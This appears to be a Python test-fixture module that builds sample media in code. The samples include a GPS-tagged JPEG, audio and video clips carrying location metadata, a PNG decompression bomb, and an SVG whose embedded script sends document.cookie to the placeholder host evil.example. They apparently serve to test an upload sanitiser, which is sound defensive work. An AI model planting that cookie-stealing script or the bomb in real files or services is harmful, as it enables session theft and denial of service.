"""Test files made in code (Pillow, ffmpeg's lavfi sources), never committed binaries."""

import io
import struct
import subprocess
import tempfile
import zlib
from pathlib import Path

from PIL import ExifTags, Image

GPS = ExifTags.IFD.GPSInfo


def image_bytes(fmt: str = "JPEG", size=(64, 48), color=(200, 30, 30), exif=None) -> bytes:
    output = io.BytesIO()
    options = {"exif": exif} if exif is not None else {}
    Image.new("RGB", size, color).save(output, format=fmt, **options)
    return output.getvalue()


def jpeg_with_gps() -> bytes:
    """A photo that says where it was taken (48.8581 N, 2.2944 E) and on which camera."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PlazaCam"
    gps = exif.get_ifd(GPS)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (48.0, 51.0, 29.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (2.0, 17.0, 40.0)
    return image_bytes(exif=exif, size=(800, 600))


def decompression_bomb(side: int = 100_000) -> bytes:
    """A few hundred bytes of PNG whose header claims ``side`` x ``side`` pixels (10 billion
    by default): decoding it would need gigabytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)  # 8-bit greyscale
    rows = zlib.compress(b"\x00" * (side + 1) * 4)  # a few rows of zeros, the rest missing
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<script>fetch("https://evil.example/?c="+document.cookie)</script></svg>'
)


def _ffmpeg(*arguments: str, suffix: str) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        target = Path(folder) / f"out{suffix}"
        subprocess.run(
            ["ffmpeg", "-v", "error", *arguments, "-y", str(target)], check=True, timeout=60
        )
        return target.read_bytes()


def voice_ogg(seconds: float = 1.0) -> bytes:
    return _ffmpeg(
        "-f", "lavfi", "-i", f"sine=frequency=440:duration={seconds}",
        "-c:a", "libopus", "-metadata", "title=secret place", suffix=".ogg",
    )  # fmt: skip


def voice_webm_as_recorded(seconds: float = 1.5) -> bytes:
    """Opus in WebM written as a stream, as Chromium's MediaRecorder does: no duration in the
    header (the muxer cannot seek back to write it)."""
    return subprocess.run(
        ["ffmpeg", "-v", "error", "-f", "lavfi", "-i", f"sine=frequency=440:duration={seconds}",
         "-c:a", "libopus", "-f", "webm", "pipe:1"],
        check=True, capture_output=True, timeout=60,
    ).stdout  # fmt: skip


def voice_m4a(seconds: float = 1.0) -> bytes:
    return _ffmpeg(
        "-f", "lavfi", "-i", f"sine=frequency=440:duration={seconds}", "-c:a", "aac",
        suffix=".m4a",
    )  # fmt: skip


def video_mp4(seconds: float = 1.0, size: str = "160x120") -> bytes:
    """H.264 MP4 tagged with where it was shot, as phones do."""
    return _ffmpeg(
        "-f", "lavfi", "-i", f"testsrc=duration={seconds}:size={size}:rate=10",
        "-c:v", "libx264", "-pix_fmt", "yuv420p",
        "-metadata", "location=+48.8581+002.2945/", suffix=".mp4",
    )  # fmt: skip
